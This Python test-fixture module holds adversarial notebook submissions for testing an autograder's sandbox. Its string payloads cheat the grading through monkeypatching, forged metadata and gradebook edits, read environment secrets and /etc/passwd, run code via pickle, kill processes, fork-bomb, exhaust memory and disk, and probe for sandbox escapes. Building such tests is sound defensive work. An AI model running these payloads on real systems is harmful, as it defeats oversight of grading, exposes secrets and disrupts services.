"""Notebooks that try to get marks, secrets or damage in place of an answer: what tests/test_grading.py hands in.

Each is the students' copy of lesson 01 with nothing solved and one trick. PATHS, PORT and MARKER are filled in by the
test. They belong into a sandbox: some of them kill all processes that they can see.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

Notebook = dict[str, Any]

WRONG = """
def patchify(images, patch_size):
    return images
"""

# What a cell does before the wrong answer: it must give no mark, and the teacher must be told of it.
TAMPERING = {
    "patches_torch": (
        "torch.equal = torch.allclose = lambda *a, **k: True\n"
        "torch.Tensor.__le__ = torch.Tensor.__eq__ = lambda a, b: torch.ones_like(a, dtype=torch.bool)\n"
        "torch.Tensor.allclose = lambda *a, **k: True"
    ),
    "all_chance_is_zero": "torch.randn = torch.rand = torch.zeros\ntorch.manual_seed = lambda seed: None",
    "breaks_the_package_for_all": (
        "import vit_tutorial.patches as own\nown.patchify.__code__ = (lambda images, patch_size: images).__code__"
    ),
    "the_checks_own_numbers": (
        "import vit_tutorial.checks.lesson01 as own\n"
        "def patch_numbers():\n"
        "    return dict(own.PATCH_NUMBERS.right)\n"
        "def unpatchify(*given):\n"
        "    return own.UNPATCHIFY.right(*given)"
    ),
}

TAMPERING |= {
    "writes_the_whole_answer": (
        "import glob, json, os\n"
        "names = 'patch_numbers', 'patchify', 'unpatchify', 'patch_embedding', 'overlapping_patches'\n"
        "passed = {name: {'passed': True, 'report': ''} for name in names}\n"
        "for path in glob.glob('/proc/[0-9]*/fd/[0-9]*'):\n"
        "    try: open(path, 'w').write(json.dumps({'outputs': [], 'problem': '', 'checks': passed}))\n"
        "    except OSError: pass\n"
        "for pid in [int(name) for name in os.listdir('/proc') if name.isdigit()]:\n"
        "    if pid not in (1, os.getpid()): os.kill(pid, 9)"
    ),
    "replaces_the_checks": (
        "import sys, types\n"
        "class Checks(types.ModuleType):\n"
        "    def __getattr__(self, name):\n"
        "        return lambda *a, **k: True\n"
        "for name in [name for name in sys.modules if name.startswith('vit_tutorial.checks')]:\n"
        "    sys.modules[name] = Checks(name)\n"
        "checks = sys.modules['vit_tutorial.checks']"
    ),
}

# Instead of the wrong answer: one that attacks when it is called.
ATTACKING_WORKS = {
    "equal_to_everything": """
import torch
class Same(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __le__(self, other): return True
    __rsub__, __lt__, __hash__ = __sub__, __le__, float.__hash__
class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("equal", "allclose", "any"): return True
        return super().__torch_function__(function, types, args, kwargs or {})
def patch_numbers():
    return {key: Same(0) for key in ("patches", "patch 1", "pixel 16", "photo patches", "photo length")}
def patchify(images, patch_size):
    return torch.zeros(1).as_subclass(Always)
""",
    "looks_at_its_callers": """
import sys
def patchify(images, patch_size):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, list): value.clear()
            if isinstance(value, dict) and "passed" in value: value["passed"] = True
        frame = frame.f_back
    return images
""",
    "changes_as_it_is_read": """
import torch
class Lazy(torch.Tensor):
    asked = 0
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        Lazy.asked += 1
        made = super().__torch_function__(function, types, args, kwargs or {})
        return made + Lazy.asked if isinstance(made, torch.Tensor) and made.is_floating_point() else made
def patchify(images, patch_size):
    return images.as_subclass(Lazy)
""",
    "ends_the_check": "import os\ndef patchify(images, patch_size):\n    os._exit(0)\n",
}

# Instead of the wrong answer: the package's own work, in another guise.
BORROWED = {
    "a_code_of_another_name": """
import types, vit_tutorial as vt
code = vt.patchify.__code__.replace(co_name="mine", co_filename="mine.py")
patchify = types.FunctionType(code, vt.patchify.__globals__)
""",
    "through_exec_and_time": """
import vit_tutorial as vt
def patchify(images, patch_size):
    names = {"vt": vt, "given": (images, patch_size)}
    exec("made = vt.patchify(*given)", names)
    return names["made"]
get_ipython().run_cell_magic("time", "", "exec('x = 1')")
""",
    "in_another_process": """
import os, torch, vit_tutorial as vt
def patchify(images, patch_size):
    if (child := os.fork()) == 0:
        torch.save(vt.patchify(images, patch_size), "made.pt")
        os._exit(0)
    os.waitpid(child, 0)
    return torch.load("made.pt")
""",
}

# What must not work at all, told or not.
READING = {
    "reads_all_files": """
import os
for top in PATHS + ["/"]:
    for folder, _, names in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/dev")): continue
        for name in names:
            if name.endswith((".ipynb", ".txt", ".db", ".csv", ".json", ".html", ".env")):
                try:
                    print(folder, name, open(os.path.join(folder, name), errors="replace").read()[:3000])
                except OSError as error:
                    pass
""",
    "reads_the_environment": """
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/etc/passwd", "/proc/mounts"]:
    try:
        print(path, open(path).read()[:2000])
    except OSError as error:
        print(error)
""",
}
WRITING = {
    "writes_outside": """
import os
for path in PATHS:
    for name in ("MARKER", "../MARKER"):
        try:
            os.makedirs(path, exist_ok=True)
            open(os.path.join(path, name), "w").write("MARKER")
        except OSError as error:
            print(error)
""",
    "changes_the_package": """
import vit_tutorial.patches
try:
    open(vit_tutorial.patches.__file__, "a").write("# MARKER")
except OSError as error:
    print(error)
""",
}
NETWORK = {
    "uses_the_network": """
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8", "example.com"):
    for port in (PORT, 53):
        try:
            socket.create_connection((host, port), timeout=0.3).send(b"MARKER")
        except OSError as error:
            print(error)
""",
}
TAKING = {
    "ends_its_process": """
import os
os._exit(0)
""",
    "kills_all_it_sees": """
import os
for pid in [*range(1, 50), -1]:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
""",
    "crashes": """
import ctypes
ctypes.string_at(0)
""",
    "loops_and_swallows": """
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "sleeps_in_another_session": """
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(10**6)
""",
    "a_fork_bomb": """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
    "threads_without_end": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
    "takes_memory": """
kept = []
while True:
    kept.append(b"x" * 10**7)
""",
    "takes_memory_in_no_process": """
import os
kept = [os.memfd_create(str(number)) for number in range(100)]
for file in kept:
    for _ in range(60):
        os.write(file, b"x" * 10**6)
""",
    "takes_memory_in_many_processes": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = bytearray(b"x" * 150_000_000)
        time.sleep(30)
time.sleep(20)
""",
    "fills_its_disk": """
for folder in ("/scratch", "/tmp", "/dev/shm", ".", "/dev"):
    try:
        for number in range(500):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * 10**6)
    except OSError as error:
        print(error)
""",
}


TAKING |= {
    "kernels_that_never_die": """
import os, signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try: time.sleep(1000)
    except BaseException: pass
""",
    "hangs_at_its_end": """
import atexit, time
atexit.register(time.sleep, 10**6)
""",
    "prints_without_end": """
while True: print("x" * 10_000)
""",
    "an_error_that_never_says_what": """
class Odd(Exception):
    def __str__(self): return "x" * 10**8
    __repr__ = __str__
raise Odd()
""",
    "fills_the_folder_of_works": """
import os
os.makedirs("works", exist_ok=True)
os.mkfifo("works/patchify")
os.symlink("/dev/zero", "works/unpatchify")
for number in range(10_000): open(f"works/{number}", "w").write("x" * 10_000)
""",
}

# Instead of the wrong answer: a work that attacks the process that checks it.
CHECKED = {
    "runs_code_when_it_is_unpickled": """
class Work:
    def __reduce__(self):
        return exec, ("import os; [open(p + '/MARKER', 'w') for p in PATHS if os.access(p, os.W_OK)]; os.kill(-1, 9)",)
patchify = Work()
""",
    "is_never_unpickled": """
class Work:
    def __reduce__(self):
        return exec, ("while True: pass",)
patchify = Work()
""",
    "is_huge": """
kept = b"x" * 10**9
def patchify(images, patch_size):
    return kept
""",
    "kills_who_checks_it": """
import os
def patchify(images, patch_size):
    os.kill(os.getppid(), 9)
    os.kill(-1, 9)
""",
    "writes_the_answer_itself": """
import glob
def patchify(images, patch_size):
    for path in glob.glob("/proc/[0-9]*/fd/[0-9]*"):
        try:
            with open(path, "w") as file: file.write('{"checks": [[[[[[' + "[" * 100_000)
        except OSError: pass
    while True: pass
""",
    "bombs_when_it_is_checked": """
import os
def patchify(images, patch_size):
    while True: os.fork()
""",
}

# What comes from elsewhere than cells: it belongs to the sandbox's walls.
WRITING |= {
    "looks_for_a_way_out": """
import ctypes, glob, os, subprocess
libc = ctypes.CDLL(None)
print(libc.unshare(0x10000000), libc.mount(b"none", b"/scratch", b"tmpfs", 0, b""), libc.ptrace(16, 1, 0, 0))
for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + ["/proc/self/root/.."]:
    for path in PATHS:
        try: open(root + path + "/MARKER", "w").write("MARKER")
        except OSError: pass
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/sys/power/state"):
    try: open(path, "w").write("c")
    except OSError as error: print(error)
for command in (["mknod", "d", "b", "8", "0"], ["chmod", "u+s", "/usr/bin/env"], ["bwrap", "--bind", "/", "/", "true"]):
    try: print(subprocess.run(command, capture_output=True, timeout=5))
    except Exception as error: print(error)
""",
    "writes_to_the_gradebook": """
import os, sqlite3
for path in PATHS + [os.path.expanduser("~"), "/root", "/home"]:
    for name in ("gradebook.db", "marks.csv", "graded/honest/01_patches.json", "nbgrader_config.py"):
        try:
            os.makedirs(path, exist_ok=True)
            open(os.path.join(path, name), "w").write("MARKER")
            sqlite3.connect(os.path.join(path, "gradebook.db")).execute("update grade set manual_score = 20")
        except Exception as error: print(error)
""",
}


def check_of(notebook: Notebook, name: str) -> dict[str, Any]:
    (cell,) = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == name]
    return cell


def points(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 1000


def not_graded(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"grade": False, "locked": False, "solution": True}


def edited(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if cell["source"].startswith("assert checks"):
            cell["source"] = "print('right')"


def outputs_of_its_own(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if cell["source"].startswith("assert checks"):
            stream = {"output_type": "stream", "name": "stdout", "text": "patchify: right. Tried:"}
            value = {"output_type": "execute_result", "data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1}
            cell["outputs"] = [stream, value]


def imitated(notebook: Notebook) -> None:
    """Cells that say that they are nbgrader's, a kernel and code of another kind, scripts in all places."""
    script = "<script>fired=1</script>"
    forged = {"grade_id": "check-patchify", "grade": True, "solution": False, "locked": True, "points": 1000}
    for number, name in enumerate(("check-patchify", "check-extra", script, "../../x")):
        metadata = {"nbgrader": forged | {"grade_id": name, "schema_version": 3, "checksum": "0"}, "tags": [script]}
        cell = {"cell_type": "code", "source": "20.0", "metadata": metadata, "id": f"f{number}", "execution_count": 1}
        shown = {"output_type": "execute_result", "data": {"text/html": script}, "metadata": {}, "execution_count": 1}
        notebook["cells"].append(cell | {"outputs": [shown]})
    attached = {"x.svg": {"image/svg+xml": script}}
    notebook["cells"].append(
        {"cell_type": "markdown", "source": script, "metadata": {}, "id": "m", "attachments": attached}
    )
    notebook["metadata"] = {"kernelspec": {"name": "bash", "display_name": script}, "title": script}
    notebook["nbformat_minor"] = 10**6


EDITS: dict[str, Callable[[Notebook], None]] = {
    "points_of_its_own": points,
    "checks_that_are_none": not_graded,
    "edited_checks": edited,
    "outputs_of_its_own": outputs_of_its_own,
    "imitates_nbgrader": imitated,
}

# Files that are no notebooks, or hardly.
FILES: dict[str, bytes] = {
    "empty": b"",
    "half": b'{"cells": [{"cell_type": "code", "source": "1',
    "nested": b'{"cells": ' + b"[" * 100_000,
    "digits": b'{"cells": [{"source": ' + b"1" * 100_000 + b"}]}",
    "latin": '{"cells": [{"source": "é\x00"}], "metadata": {}}'.encode("latin-1"),
    "utf16": '{"cells": []}'.encode("utf-16"),
    "zipped": b"PK\x03\x04" + bytes(1000),
    "no_list": b'{"cells": {"0": 1}}',
    "odd_cells": b'{"cells": [3, null, {"cell_type": []}, {"source": {"a": 3}}]}',
    "many_cells": b'{"cells": [' + b'{"source": "1"},' * 100_000 + b'{"source": "1"}]}',
    "a_long_line": b'{"cells": [{"cell_type": "code", "source": "' + b"('" * 49_000 + b'"}]}',
    "a_long_operator": b'{"cells": [{"cell_type": "code", "source": "' + b"-" * 99_000 + b'1"}]}',
    "long_markdown": b'{"cells": [{"cell_type": "markdown", "source": "' + b"[![" * 30_000 + b'"}]}',
}
